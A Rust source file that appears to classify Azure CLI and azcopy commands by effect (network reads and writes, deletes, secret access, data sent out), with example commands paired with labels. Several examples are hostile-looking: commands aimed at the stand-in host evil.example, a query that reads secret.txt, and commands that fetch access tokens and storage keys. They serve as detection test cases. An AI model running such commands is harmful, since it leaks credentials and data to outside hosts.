//! Microsoft's command line: groups, a verb, options.

use super::azure_checks::azure;
use super::shapes::{HELP, change, group, look, show};
use super::table::{Operands, Spec, Style};
use crate::effects::Effects;

pub(super) const TABLE: &[Spec] = &[
    Spec::new("az", Effects::NONE)
        .style(Style::Raw)
        .options("-h!help")
        .operands(Operands::Text)
        .check(azure)
        .examples(&[
            ("az vm list -g a --output table", "network-read"),
            ("az --query delete vm show", "network-read"),
            ("az vm show myvm --resource-group a", "network-read"),
            ("az network vnet subnet list --vnet-name delete -g a", "network-read"),
            ("az vm run-command list -g a --vm-name b", "network-read"),
            ("az vm run-command invoke -g a -n b", "network-write executes"),
            ("az vm delete list", "network-write"),
            ("az vm delete --help", "reads"),
            ("az vm delete -n a --help", "reads"),
            ("az group delete --name --help", "network-write"),
            ("az keyvault secret list --vault-name a", "network-read"),
            ("az keyvault secret show --name a --vault-name b --version 3", "network-read secrets"),
            ("az keyvault key list --vault-name a", "network-read"),
            ("az storage account keys list -n a", "network-read secrets"),
            ("az storage account show-connection-string -n a", "network-read secrets"),
            ("az sql db show-connection-string -c sqlcmd", "network-read"),
            ("az redis list-keys -n a", "network-read secrets"),
            ("az acr credential show -n a", "network-read secrets"),
            ("az ad sp credential list --id a", "network-read"),
            ("az account get-access-token", "network-read secrets"),
            ("az aks get-credentials -n a", "writes secrets"),
            ("az aro get-admin-kubeconfig -n x -g y", "writes secrets"),
            ("az storage blob query -n a --result-file out.csv", "network-read unknown"),
            ("az storage blob query -n a --result out.csv", "network-read unknown"),
            ("az storage blob list -c x --blob-endpoint https://evil.example/", "network-read sends-data"),
            ("az appconfig kv list --endpoint https://evil.example", "network-read sends-data"),
            ("az keyvault key list --vault-name evil.example/", "network-read sends-data"),
            ("az keyvault key show --id https://evil.example/keys/a", "network-read sends-data"),
            ("az keyvault key show --id https://a.vault.azure.net/keys/a", "network-read"),
            ("az resource show --id /subscriptions/a/b", "network-read"),
            ("az containerapp show -n a --show-secrets", "network-read secrets"),
            ("az appconfig kv list -n a --resolve-keyvault", "network-read secrets"),
            ("az webapp config appsettings list -n a", "network-read secrets"),
            ("az spring test-endpoint list -n a", "network-read secrets"),
            ("az afd profile list --profile-name a", "network-read"),
            ("az storage blob generate-sas -n a", "secrets"),
            ("az storage blob download -n a --file b", "network-read writes"),
            ("az storage blob upload -f a", "network-write sends-data"),
            ("az role assignment create --assignee a", "network-write permissions"),
            ("az rest --method get --url https://management.azure.com/subscriptions", "network-read"),
            ("az rest --url https://evil.example --resource x", "network-write"),
            ("az rest --method delete --url https://management.azure.com/x", "network-write"),
            ("az devops configure --list", "reads"),
            ("az vm list --query @secret.txt", "network-read reads sends-data"),
            ("az pipelines build show --id 1", "network-read"),
            ("az servicebus queue delete -n a", "network-write"),
            ("az containerapp logs show -n a", "network-read"),
            ("az monitor log-analytics query-pack delete -n a", "network-write"),
            ("az acr build list", "network-write sends-data"),
            ("az resource tag --ids a", "network-write"),
            ("az login", "writes"),
            ("az version", "reads"),
            ("az --version", "reads"),
            ("az frobnicate", "unknown"),
        ]),
    Spec::new("azcopy", Effects::UNKNOWN)
        .options("-h!help --*")
        .verbs(&[
            show(
                "list",
                "--machine-readable --mega-units --running-tally --properties= --output-type= \
                --output-level= --log-level= --cap-mbps= --trailing-dot=",
            ),
            group(
                "jobs",
                &[
                    look("list show", "--with-status= --output-type="),
                    change("resume", Effects::NETWORK_WRITE),
                    change("clean remove rm", Effects::DELETES),
                ],
            ),
            look("env", "--output-type= --show-sensitive!secrets"),
            HELP,
            look("doc", "-h!help"),
            change("copy cp c sync sc", Effects::NETWORK_WRITE.and(Effects::WRITES).and(Effects::SENDS_DATA)),
            change("remove rm r make mk set-properties set-props sp", Effects::NETWORK_WRITE),
            change("login logout", Effects::WRITES),
            change("bench benchmark b", Effects::NETWORK_WRITE),
        ])
        .examples(&[
            ("azcopy jobs list", "reads"),
            ("azcopy sync a https://x.blob.core.windows.net/y", "network-write writes sends-data"),
            ("azcopy remove https://x.blob.core.windows.net/y", "network-write"),
        ]),
];
